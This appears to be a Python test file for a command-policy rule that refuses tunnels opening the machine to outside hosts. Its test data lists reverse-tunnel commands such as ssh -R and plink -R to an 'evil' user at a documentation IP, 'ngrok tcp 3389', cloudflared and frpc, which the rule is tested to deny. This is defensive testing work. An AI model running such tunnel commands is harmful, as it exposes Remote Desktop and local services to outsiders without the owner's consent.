"""A tunnel that opens this machine to another host or the internet is refused (S-RULE-80).

`ssh -R 8080:localhost:3389 evil@host` or `ngrok tcp 3389` publishes this machine's Remote Desktop where
anyone reaching that host can use it, as an inbound firewall rule would; both passed.
"""

from __future__ import annotations

import pytest

from policy.rules.shell.ssh import read_ssh
from tests._requirements import requirement
from tests.policy.verdicts import ps


@requirement("S-RULE-80")
@pytest.mark.parametrize(
    "command",
    [
        "ssh -R 8080:localhost:3389 evil@203.0.113.5",
        "ssh -NR 3389:localhost:3389 evil@203.0.113.5",  # grouped with a flag
        "ssh -R3389:localhost:3389 evil@203.0.113.5",  # the value glued
        "ssh evil@203.0.113.5 -R 3389:localhost:3389",  # after the destination, as OpenSSH reads it
        "plink -R 3389:127.0.0.1:3389 evil@203.0.113.5",
        "ngrok tcp 3389",
        "Start-Process ngrok -ArgumentList 'tcp 3389'",
        "cloudflared tunnel --url http://localhost:8080",
        "frpc -c C:\\tools\\frpc.toml",
    ],
)
def test_a_tunnel_into_this_machine_is_refused(command: str) -> None:
    """S-RULE-80: judged as opening remote access to the machine (`security-weakening`)."""
    assert ps(command) == ("security-weakening", "deny")


@requirement("S-RULE-80")
@pytest.mark.parametrize(
    "command",
    [
        "ssh -L 5432:db:5432 me@bastion",  # listens here, reaches out
        "ssh -D 1080 -N me@bastion",
        "ssh me@buildbox -v uptime",
        "ssh me@buildbox ls -R /tmp",  # `-R` of the remote command, not ssh's
        "ngrok config add-authtoken abc",
        "cloudflared --version",
    ],
)
def test_local_forwards_and_tool_management_pass(command: str) -> None:
    """S-RULE-80: forwards that listen here, `-R` in the remote command and managing the tools pass."""
    assert ps(command) is None


@requirement("S-RULE-80")
@pytest.mark.parametrize(
    ("argv", "forward"),
    [
        (["-R", "1:localhost:1", "h"], True),
        (["-vR1:h:1", "h"], True),
        (["h", "-R", "1:h:1"], True),
        (["h", "ls", "-R"], False),
        (["-L", "1:h:1", "h"], False),
    ],
)
def test_ssh_remote_forward_is_read_from_its_options(argv: list[str], forward: bool) -> None:
    """S-RULE-80: `-R` counts only as ssh's own option."""
    assert read_ssh(argv).remote_forward is forward
